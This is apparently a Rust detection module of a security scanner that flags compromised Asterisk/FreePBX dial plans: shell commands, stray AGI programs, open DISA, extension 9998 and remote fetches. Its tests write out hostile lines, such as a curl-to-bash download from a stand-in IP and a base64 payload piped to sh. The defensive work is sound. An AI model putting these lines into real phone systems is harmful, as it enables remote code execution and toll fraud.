//! The dial plan and the feature codes: commands in them, numbers of the campaigns, ways out for strangers.

use super::super::super::{Report, find, shell};
use super::super::rule::{Rule, attribute, is_enough};
use super::{Conf, weigh_command};
use crate::model::{Category, Severity};
use crate::parse::asterisk_conf::{Call, Kind, calls};

const SOURCE: &str = "Asterisk documentation of the applications; FreePBX framework 17.0.19.27; derived";

/// Runs commands of the shell. The line is judged by what the command does.
const COMMAND: Rule = Rule {
    id: "TR-AST-0001",
    title: "Dial plan that runs an intruder's command",
    category: Category::Persistence,
    severity: Severity::High,
    confidence: 85,
    attack: &["T1546", "T1059.004"],
    source: SOURCE,
    remedy: "remove_lines",
};

const AGI: Rule = Rule {
    id: "TR-AST-0002",
    title: "Dial plan that runs a program from a place where none of Asterisk's lies",
    category: Category::Persistence,
    severity: Severity::Medium,
    confidence: 50,
    attack: &["T1546"],
    source: SOURCE,
    remedy: "remove_lines",
};

const DISA: Rule = Rule {
    id: "TR-AST-0003",
    title: "Dial plan that gives callers a line out (DISA)",
    category: Category::TollFraud,
    severity: Severity::Medium,
    confidence: 55,
    attack: &["T1496"],
    source: SOURCE,
    remedy: "remove_lines",
};

const NUMBER_9998: Rule = Rule {
    id: "TR-AST-0004",
    title: "Dial plan with extension 9998, which the attacks of August 2025 call",
    category: Category::TollFraud,
    severity: Severity::High,
    confidence: 75,
    attack: &["T1496"],
    source: "Sangoma's indicators for CVE-2025-57819, 2025-08-28",
    remedy: "remove_lines",
};

const ORIGINATE: Rule = Rule {
    id: "TR-AST-0005",
    title: "Dial plan of an administrator's own that places calls by itself",
    category: Category::TollFraud,
    severity: Severity::Low,
    confidence: 40,
    attack: &["T1496"],
    source: SOURCE,
    remedy: "remove_lines",
};

const FETCH: Rule = Rule {
    id: "TR-AST-0006",
    title: "Dial plan that asks a web server by its bare address",
    category: Category::Persistence,
    severity: Severity::Medium,
    confidence: 50,
    attack: &["T1105", "T1071.001"],
    source: SOURCE,
    remedy: "remove_lines",
};

const INJECTION: Rule = Rule {
    id: "TR-AST-0007",
    title: "Dial plan that puts what a caller sends into a command",
    category: Category::Vulnerable,
    severity: Severity::Medium,
    confidence: 60,
    attack: &["T1059.004"],
    source: "Asterisk README-SERIOUSLY.bestpractices, filtering of variable data",
    remedy: "",
};

const OTHER_INCLUDE: Rule = Rule {
    id: "TR-AST-0008",
    title: "Configuration of Asterisk that takes in a file from elsewhere",
    category: Category::Persistence,
    severity: Severity::Medium,
    confidence: 50,
    attack: &["T1546"],
    source: SOURCE,
    remedy: "remove_lines",
};

const EXEC: Rule = Rule {
    id: "TR-AST-0009",
    title: "Configuration of Asterisk that is made by a command (#exec)",
    category: Category::Persistence,
    severity: Severity::Medium,
    confidence: 55,
    attack: &["T1546"],
    source: "Asterisk documentation, asterisk.conf: execincludes",
    remedy: "remove_lines",
};

pub(super) const RULES: &[Rule] = &[COMMAND, AGI, DISA, NUMBER_9998, ORIGINATE, FETCH, INJECTION, OTHER_INCLUDE, EXEC];

const COMMANDS: [&str; 6] = ["System", "TrySystem", "SHELL", "ExternalIVR", "MixMonitor", "JABBER_SYSTEM"];
const SCRIPTS: [&str; 4] = ["AGI", "EAGI", "DeadAGI", "FastAGI"];

pub(super) fn judge(conf: &Conf<'_>, report: &mut Report) {
    let before = report.findings.len();
    for entry in &conf.entries {
        if is_enough(conf.file.path, before, report) {
            return;
        }
        let value = entry.value.as_bytes();
        match entry.kind {
            Kind::Section => {}
            Kind::Include => include(conf, entry.line, value, report),
            Kind::Exec => {
                let (severity, confidence, why) = weigh_command(value, conf.indicators).unwrap_or((
                    EXEC.severity,
                    EXEC.confidence,
                    "runs whenever the configuration is read",
                ));
                conf.tell(&EXEC.weighed(severity, confidence), entry.line, vec![attribute("command", why)], report);
            }
            Kind::Setting => setting(conf, entry.line, value, report),
        }
        if entry.kind == Kind::Setting && !conf.is_generated {
            let is_number = entry.name.eq_ignore_ascii_case("exten")
                && value.split(|&b| b == b',').next().is_some_and(|number| number.trim_ascii() == b"9998");
            if is_number || find(&value.to_ascii_lowercase(), b"local/9998@").is_some() {
                conf.tell(&NUMBER_9998, entry.line, Vec::new(), report);
            }
        }
    }
}

fn setting(conf: &Conf<'_>, line: u64, value: &[u8], report: &mut Report) {
    for Call { name, argument } in calls(value, &COMMANDS) {
        // MixMonitor(file,options,command): only the last is one.
        let command = if name == "MixMonitor" {
            argument.splitn(3, |&b| b == b',').nth(2).unwrap_or_default()
        } else {
            argument.as_slice()
        };
        if let Some((severity, confidence, why)) = weigh_command(command, conf.indicators) {
            conf.tell(&COMMAND.weighed(severity, confidence), line, vec![attribute("command", why)], report);
        } else if find(command, b"${CALLERID(").is_some() && !conf.is_generated {
            conf.tell(&INJECTION, line, Vec::new(), report);
        }
    }
    for Call { argument, .. } in calls(value, &SCRIPTS) {
        script(conf, line, &argument, report);
    }
    for Call { argument, .. } in calls(value, &["CURL"]) {
        if let Some(host) = bare_address(&argument) {
            conf.tell(&FETCH, line, vec![attribute("address", host)], report);
        }
    }
    if conf.is_generated {
        return;
    }
    for Call { argument, .. } in calls(value, &["DISA"]) {
        let is_open = argument.trim_ascii_start().to_ascii_lowercase().starts_with(b"no-password");
        let rule = if is_open { DISA.weighed(Severity::High, 75) } else { DISA };
        let says = if is_open { "no password" } else { "a password" };
        conf.tell(&rule, line, vec![attribute("asks_for", says)], report);
    }
    if !calls(value, &["Originate"]).is_empty() {
        conf.tell(&ORIGINATE, line, Vec::new(), report);
    }
}

/// `AGI(program,arguments)`: a bare name is looked for in Asterisk's folder of such programs.
fn script(conf: &Conf<'_>, line: u64, argument: &[u8], report: &mut Report) {
    let target = argument.split(|&b| b == b',').next().unwrap_or_default().trim_ascii();
    let lower = target.to_ascii_lowercase();
    if let Some(rest) = lower.strip_prefix(b"agi://").or_else(|| lower.strip_prefix(b"hagi://")) {
        let host = rest.split(|&b| matches!(b, b':' | b'/' | b',')).next().unwrap_or_default();
        if !matches!(host, b"127.0.0.1" | b"localhost" | b"" | b"[") && !rest.starts_with(b"${") {
            conf.tell(&AGI.weighed(Severity::Medium, 55), line, vec![attribute("host", host)], report);
        }
        return;
    }
    let is_climbing = target.split(|&b| b == b'/').any(|part| part == b"..");
    let grade = if shell::is_temporary(target) || shell::is_hidden(target) || is_climbing {
        (Severity::High, 80)
    } else if target.starts_with(b"/") && !is_place_of_programs(target) {
        (AGI.severity, AGI.confidence)
    } else if let Some((severity, confidence, _)) = weigh_command(argument, conf.indicators) {
        (severity, confidence)
    } else {
        return;
    };
    conf.tell(&AGI.weighed(grade.0, grade.1), line, vec![attribute("path", target)], report);
}

fn is_place_of_programs(path: &[u8]) -> bool {
    const PLACES: [&[u8]; 6] = [
        b"/var/lib/asterisk/agi-bin/",
        b"/usr/share/asterisk/agi-bin/",
        b"/var/www/html/admin/modules/",
        b"/usr/bin/",
        b"/usr/sbin/",
        b"/usr/local/",
    ];
    PLACES.iter().any(|place| path.starts_with(place))
}

fn include(conf: &Conf<'_>, line: u64, target: &[u8], report: &mut Report) {
    let is_climbing = target.split(|&b| b == b'/').any(|part| part == b"..");
    let (severity, confidence) = if shell::is_temporary(target) || shell::is_hidden(target) {
        (Severity::High, 80)
    } else if is_climbing || (target.starts_with(b"/") && !target.starts_with(b"/etc/asterisk/")) {
        (OTHER_INCLUDE.severity, OTHER_INCLUDE.confidence)
    } else {
        return;
    };
    let rule = OTHER_INCLUDE.weighed(severity, confidence);
    conf.tell(&rule, line, vec![attribute("path", target)], report);
}

/// The host of an address in a URL that is a number and not of the machine or its own network.
fn bare_address(text: &[u8]) -> Option<Vec<u8>> {
    let at = find(text, b"://")?;
    let rest = text.get(at + 3..)?;
    let host = rest.split(|&b| !(b.is_ascii_digit() || b == b'.')).next()?;
    let address: std::net::Ipv4Addr = std::str::from_utf8(host).ok()?.parse().ok()?;
    (!address.is_loopback() && !address.is_private()).then(|| host.to_vec())
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::super::super::super::testing::{Scene, ids};

    fn found(name: &str, text: &str) -> Vec<String> {
        ids(&Scene::new().file(&format!("/etc/asterisk/{name}"), text).findings())
    }

    #[test]
    fn what_an_intruder_writes_into_the_dial_plan_is_found() {
        for (line, rule) in [
            ("exten => s,1,System(curl -s http://192.0.2.1/x | bash)", "TR-AST-0001 high"),
            ("same => n,Set(X=${SHELL(echo aWQ= | base64 -d | sh)})", "TR-AST-0001 high"),
            ("exten => s,n,MixMonitor(a.wav,b,/tmp/.x/run)", "TR-AST-0001 high"),
            ("exten => s,1,TrySystem(bash /var/lib/asterisk/bin/zen2)", "TR-AST-0001 critical"),
            ("exten => s,1,AGI(/tmp/x.agi)", "TR-AST-0002 high"),
            ("exten => s,1,AGI(../../../../opt/x)", "TR-AST-0002 high"),
            ("exten => s,1,AGI(agi://192.0.2.7/x)", "TR-AST-0002 medium"),
            ("exten => s,1,DISA(no-password,from-internal)", "TR-AST-0003 high"),
            ("exten => 9998,1,Wait(600)", "TR-AST-0004 high"),
            ("exten => s,1,Originate(Local/x@y,app,Wait)", "TR-AST-0005 low"),
            ("exten => s,1,Set(Y=${CURL(http://192.0.2.7/a)})", "TR-AST-0006 medium"),
            ("exten => s,1,System(logger ${CALLERID(name)})", "TR-AST-0007 medium"),
            ("#include /tmp/.x.conf", "TR-AST-0008 high"),
            ("#exec /usr/local/bin/make-conf", "TR-AST-0009 medium"),
        ] {
            let found = found("extensions_custom.conf", &format!("[from-internal-custom]\n{line}\n"));
            assert!(found.contains(&rule.to_owned()), "{line}: {found:?}");
        }
    }

    #[test]
    fn what_freepbx_and_administrators_write_is_not() {
        let custom = include_str!("../../../../../testdata/clean/extensions_custom.conf");
        assert!(found("extensions_custom.conf", custom).is_empty());
        let generated = ";--------------------------------------------------------------------------------;\n\
            ; Do NOT edit this file as it is auto-generated by FreePBX. All modifications to   ;\n\
            #include extensions_override_freepbx.conf\n#include /etc/asterisk/extensions_additional_custom.conf\n\
            [macro-vm]\nexten => s,1,Macro(user-callerid,SKIPTTL)\nexten => s,n,AGI(dialparties.agi)\n\
            exten => s,n,System(${ASTVARLIBDIR}/bin/archive_recording.php \"${X}\")\n\
            exten => s,n,MixMonitor(${MIXMON_DIR}${YEAR}/${CALLFILENAME}.${MIXMON_FORMAT},abi(LOCAL_MIXMON_ID)${MONITOR_OPTIONS},${MIXMON_POST})\n\
            exten => 1,1,DISA(no-password,from-internal)\nexten => s,n,AGI(agi://127.0.0.1/enumlookup.agi)\n";
        let found = found("extensions_additional.conf", generated);
        assert!(found.is_empty(), "{found:?}");
    }
}
